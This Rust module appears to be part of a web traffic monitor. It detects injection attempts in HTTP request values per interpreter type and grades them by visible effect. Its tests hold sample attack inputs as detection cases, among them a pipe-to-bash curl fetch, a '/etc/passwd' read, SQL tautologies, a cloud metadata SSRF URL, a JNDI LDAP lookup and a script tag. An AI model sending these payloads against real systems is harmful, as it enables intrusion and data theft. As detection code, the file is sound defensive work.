//! Injection: values that end what they were meant to be, and go on as code of an interpreter behind the interface.
//!
//! Every value of a request is decoded as a program would decode it and read with a small grammar per language: not whether it
//! holds a word, but whether it parses as breaking out and going on. What the server made of it decides what it is worth: an
//! attempt without a visible effect is told with low severity, an effect or several different attempts with more.
//!
//! Sees: target, fields, content up to 64 KiB, the first 16 KiB of each value; of the response the first 64 KiB. Misses:
//! values encoded in ways of the application's own, blind effects, payloads put together from several values.

mod code;
mod decode;
mod effect;
mod judge;
mod ldap;
mod lookup;
mod markup;
mod nosql;
mod object;
mod path;
mod redos;
mod shell;
mod sql;
mod template;
mod url;
mod values;
mod xml;

use std::sync::LazyLock;

use memchr::memmem::Finder;

use effect::Effect;
pub(crate) use judge::INJECTION;
use values::{Place, Value};

use super::{Fact, Seen};
use crate::endpoint;
use crate::visit::{Hash, Hashing};

/// What kind of interpreter a payload is for. The order is that of the list of detectors.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(crate) enum Kind {
    Code,
    Command,
    Deserialization,
    Header,
    Ldap,
    Lookup,
    NoSql,
    PathTraversal,
    SessionFixation,
    Sql,
    Ssrf,
    Template,
    Xss,
    Xxe,
}

/// How sure a grammar is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Weight {
    /// It parses, and people write such things too: counts only beside others.
    Weak,
    /// It parses as an attack and as little else.
    Sure,
}

/// What a value tries.
#[derive(Clone, Debug, PartialEq)]
pub struct Payload {
    pub(crate) kind: Kind,
    pub(crate) weight: Weight,
    /// It would make the server wait.
    pub(crate) waits: bool,
    /// What the server would write if it ran it: the result of an arithmetic.
    pub(crate) result: Option<u64>,
    /// The value, hashed.
    pub(crate) value: Hash,
    pub(crate) part: &'static str,
    /// What the value is called, as it may be shown.
    pub(crate) name: Option<Box<str>>,
    pub(crate) effect: Option<Effect>,
}

impl Payload {
    fn new(kind: Kind, weight: Weight) -> Self {
        let (value, part) = (Hash::default(), "request");
        Self { kind, weight, waits: false, result: None, value, part, name: None, effect: None }
    }

    fn sure(kind: Kind) -> Option<Self> {
        Some(Self::new(kind, Weight::Sure))
    }

    fn weak(kind: Kind) -> Option<Self> {
        Some(Self::new(kind, Weight::Weak))
    }
}

/// A value as the grammars read it.
struct Text<'a> {
    place: Place,
    name: &'a [u8],
    raw: &'a [u8],
    /// `raw` in lower case.
    lower: &'a [u8],
    /// It is text of several lines or sentences, and may hold any language's code as an example.
    is_document: bool,
}

impl Text<'_> {
    fn has(&self, part: &[u8]) -> bool {
        memchr::memmem::find(self.lower, part).is_some()
    }
}

/// Values that no grammar reads as an attack, by their hashes. Most of what a client sends, it sends with each request:
/// its User-Agent, its session. Twelve grammars need to read that once.
///
/// Bounds: [`HARMLESS`] hashes of 8 octets, each in its own place, and a newer one takes it. The hashes are keyed, so
/// nobody can make a value that counts as another.
#[derive(Default)]
pub(crate) struct Harmless {
    known: Vec<Hash>,
}

/// Hashes kept by a worker: 64 KB.
const HARMLESS: usize = 8_192;

impl Harmless {
    /// What a value's verdict follows from, hashed; `None` where the value is too long to come again.
    fn key(value: &Value<'_>, hashing: &Hashing) -> Option<Hash> {
        const LONGEST: usize = 512;
        let place = Hash(u64::from(value.is_name) << 8 | value.place as u64);
        (value.text.len() <= LONGEST)
            .then(|| hashing.hash_all([place, hashing.hash(value.name), hashing.hash(value.text)]))
    }

    fn holds(&self, key: Hash) -> bool {
        self.known.get(key.0 as usize % HARMLESS) == Some(&key)
    }

    fn add(&mut self, key: Hash) {
        if self.known.is_empty() {
            self.known = vec![Hash::default(); HARMLESS];
        }
        if let Some(place) = self.known.get_mut(key.0 as usize % HARMLESS) {
            *place = key;
        }
    }
}

/// Payloads of one exchange that are told apart.
const PAYLOADS: usize = 8;

/// Notes what the values of a request try, and what the response shows of it.
fn observe(seen: &mut Seen<'_>) {
    let Some(request) = &seen.exchange.request else { return };
    let (mut payloads, mut lower, mut references) = (Vec::new(), Vec::new(), Vec::new());
    let mut run = 0;
    let has_failed = seen.exchange.response.as_ref().is_some_and(|response| response.status >= 500);
    let harmless = &mut seen.kept.harmless;
    values::each(request, &mut |value| {
        if !value.is_name && matches!(value.place, Place::Query | Place::Content) && value.text.len() >= redos::RUN {
            run = run.max(redos::run(value.text));
        }
        if payloads.len() < PAYLOADS
            && let Some(mut payload) = read_once(&value, seen.hashing, harmless, &mut lower, &mut references)
                .or_else(|| has_failed.then(|| sql::lone_quote(value.text)).flatten())
        {
            payload.value = seen.hashing.hash(value.text);
            payload.part = value.place.part();
            payload.name = (!value.name.is_empty() && !value.is_name && value.name != b"<")
                .then(|| endpoint::shown_name(value.name).into_owned().into());
            // What a document shows may come back with it.
            let is_alone = payload.weight == Weight::Sure || value.place != Place::Content;
            payload.effect = is_alone.then(|| effect::of(seen.exchange, &payload, value.text)).flatten();
            payloads.push(payload);
        }
    });
    if let Some(payload) = path::fixation(request, seen.hashing) {
        payloads.push(payload);
    }
    if run >= redos::RUN {
        seen.visit.facts.push(Fact::Run(u32::try_from(run).unwrap_or(u32::MAX)));
    }
    if !payloads.is_empty() {
        seen.visit.facts.push(Fact::Payloads(payloads.into()));
    }
}

/// Reads one value, unless it was read before and is harmless.
fn read_once(
    value: &Value<'_>,
    hashing: &Hashing,
    harmless: &mut Harmless,
    lower: &mut Vec<u8>,
    references: &mut Vec<u8>,
) -> Option<Payload> {
    // What is plain is told without a place among the others.
    if is_plain(value.text) && !value.is_name {
        return None;
    }
    let key = Harmless::key(value, hashing);
    if key.is_some_and(|key| harmless.holds(key)) {
        return None;
    }
    let payload = read(value, lower, references);
    if let Some(key) = key.filter(|_| payload.is_none()) {
        harmless.add(key);
    }
    payload
}

/// Reads one value with every grammar.
fn read(value: &Value<'_>, lower: &mut Vec<u8>, references: &mut Vec<u8>) -> Option<Payload> {
    let text = value.text;
    if is_plain(text) && !value.is_name {
        return None;
    }
    lower.clear();
    lower.extend(text.iter().map(u8::to_ascii_lowercase));
    let is_document = value.place == Place::Content
        && !value.is_name
        && value.name != b"<"
        && (holds_code(value.name) || is_document(text));
    let text = Text { place: value.place, name: value.name, raw: text, lower, is_document };
    if value.is_name {
        let of_name = nosql::name(&text).or_else(|| code::name(&text));
        if of_name.is_some() || text.raw.starts_with(b"$") {
            return of_name;
        }
    }
    let mut found = of_value(&text, references)?;
    // A document may show any language as an example; no logging library's lookup is one that people share.
    if text.is_document && !text.has(b"jndi:") {
        found.weight = Weight::Weak;
    }
    Some(found)
}

/// Reads a value with the grammars: what reads the same in any text first, what people may write as an example last.
fn of_value(text: &Text<'_>, references: &mut Vec<u8>) -> Option<Payload> {
    let found = xml::payload(text).or_else(|| lookup::payload(text)).or_else(|| object::payload(text));
    if found.is_some() || text.name == b"<" {
        return found;
    }
    let found = [
        path::payload(text),
        url::payload(text),
        markup::payload(text, references),
        template::payload(text),
        shell::payload(text),
        ldap::payload(text),
        code::payload(text),
        sql::payload(text),
    ];
    let sure = |payload: &&Payload| payload.weight == Weight::Sure;
    let best = found.iter().flatten().find(sure).or_else(|| found.iter().flatten().next());
    best.cloned()
}

/// Whether a value is made of what words and numbers are made of.
fn is_plain(text: &[u8]) -> bool {
    let plain =
        |octet: &u8| octet.is_ascii_alphanumeric() || *octet >= 0x80 || matches!(octet, b' ' | b'-' | b'_' | b',');
    let Some(first) = text.iter().position(|octet| !plain(octet)) else { return true };
    let rest = text.get(first..).unwrap_or_default();
    // The names of classes and files that are sent to be loaded, and the way up in a tree.
    static TELLING: LazyLock<[Finder<'static>; 4]> = LazyLock::new(|| ["java", "org.", "..", ".php"].map(Finder::new));
    rest.iter().all(|octet| plain(octet) || matches!(octet, b'.' | b'@' | b'+'))
        && TELLING.iter().all(|telling| telling.find(text).is_none())
}

/// Whether a member is called as those that hold texts and code: pastes, pages, templates.
fn holds_code(name: &[u8]) -> bool {
    const NAMES: [&[u8]; 14] = [
        b"code",
        b"snippet",
        b"source",
        b"content",
        b"markdown",
        b"html",
        b"script",
        b"sql",
        b"template",
        b"body",
        b"readme",
        b"paste",
        b"diff",
        b"patch",
    ];
    NAMES.iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// Several lines, or more than people type into a field.
fn is_document(text: &[u8]) -> bool {
    const LONG: usize = 600;
    text.len() > LONG || memchr::memchr_iter(b'\n', text.trim_ascii()).nth(1).is_some()
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;

    /// What a value of a query parameter is taken for.
    pub(crate) fn kind(text: &str) -> Option<(Kind, Weight)> {
        let value = Value { place: Place::Query, name: b"q", text: text.as_bytes(), is_name: false };
        read(&value, &mut Vec::new(), &mut Vec::new()).map(|payload| (payload.kind, payload.weight))
    }

    #[test]
    fn what_was_read_before_is_read_alike() {
        let hashing = Hashing::new([1; 32]);
        let (mut harmless, mut lower, mut references) = (Harmless::default(), Vec::new(), Vec::new());
        let mut reads = |place, name: &'static str, text: &'static str| {
            let value = Value { place, name: name.as_bytes(), text: text.as_bytes(), is_name: false };
            let fresh = read(&value, &mut Vec::new(), &mut Vec::new());
            let remembered = read_once(&value, &hashing, &mut harmless, &mut lower, &mut references);
            assert_eq!(remembered.is_some(), fresh.is_some(), "{place:?} {name}={text}");
            fresh.is_some()
        };
        // The same text is an attack at one place and none at another, whichever was read first.
        for _ in 0..2 {
            assert!(!reads(Place::Query, "q", "O'Brien & Sons (Ltd.)"));
            assert!(reads(Place::Query, "q", "' OR '1'='1' -- "));
            let verdicts = [Place::Path, Place::Query, Place::Field, Place::Cookie, Place::Content]
                .map(|place| ["return", "url"].map(|name| reads(place, name, "http://169.254.169.254/latest/")));
            assert!(verdicts.iter().any(|[back, url]| *url && !back), "{verdicts:?}");
        }
    }

    #[test]
    fn what_people_write_is_no_attack() {
        for text in [
            "O'Brien & Sons; best #1 -- 50% off",
            "rent -- october",
            "kids' shoes",
            "C# or F#",
            "a < b && c > d",
            "5 > 3; 2 < 4",
            "$100 (or $200)",
            "AT&T | Verizon",
            "me & you",
            "price: $5.00",
            "Tom; Jerry",
            "and/or",
            "{{name}} welcome",
            "Hello ${name}",
            "<3 you",
            "I <3 cats, dogs & birds",
            "https://example.com/a?b=c&d=e",
            "https://app.example.com/callback#x",
            "john+tag@example.com",
            "2024-01-01T00:00:00+01:00",
            "(555) 123-4567",
            "[1,2,3]",
            "{\"a\": 1}",
            "created_at:desc,name:asc",
            "price>=10",
            "a*b*c",
            "*.pdf",
            "C:\\Users\\me\\file.txt",
            "file.tar.gz",
            "image/png;base64",
            "use `ls` to list",
            "**bold** _it_ `code`",
            "what is a (b) [c] {d}?",
            "if (a) then b",
            "SELECT lamp",
            "cat; dog; bird",
            "find me a cat | dog",
            "host: me; time: now",
            "echo & the bunnymen",
            "name eq 'John' and age gt 5",
            "title:\"hello world\" AND (a OR b)",
            "#1 choice!",
            "!important",
            "50/50",
            "a=b",
            "x -> y => z",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "fields=id,name&expand=a.b",
            "query { user(id: \"1\") { name } }",
            "mutation($a: ID!) { f(a: $a) { id } }",
            "<p>Hello <b>world</b></p>",
        ] {
            assert_eq!(kind(text), None, "{text}");
        }
    }

    #[test]
    fn documents_may_show_code() {
        let of = |name: &str, text: &str| {
            let value = Value { place: Place::Content, name: name.as_bytes(), text: text.as_bytes(), is_name: false };
            read(&value, &mut Vec::new(), &mut Vec::new()).map(|payload| payload.weight)
        };
        for text in ["<script>alert(1)</script>", "curl -s http://a.example | bash", "' or 1=1 --", "os.system('ls')"] {
            assert_eq!(of("code", text), Some(Weight::Weak), "{text}");
            assert_eq!(of("comment", text), Some(Weight::Sure), "{text}");
        }
        assert_eq!(of("comment", "First:\n```\nls; cat /etc/passwd\n```\nthen more"), Some(Weight::Weak));
        assert_eq!(of("code", "${jndi:ldap://a/b}"), Some(Weight::Sure));
    }

    proptest::proptest! {
        #[test]
        fn no_value_trips_a_grammar(text in "[\\x00-\\x7f]{0,80}", more in "[-'\"(){}\\[\\]<>;|&$`#%=*/\\\\!:@. a-z0-9]{0,80}") {
            kind(&text);
            kind(&more);
        }
    }
}
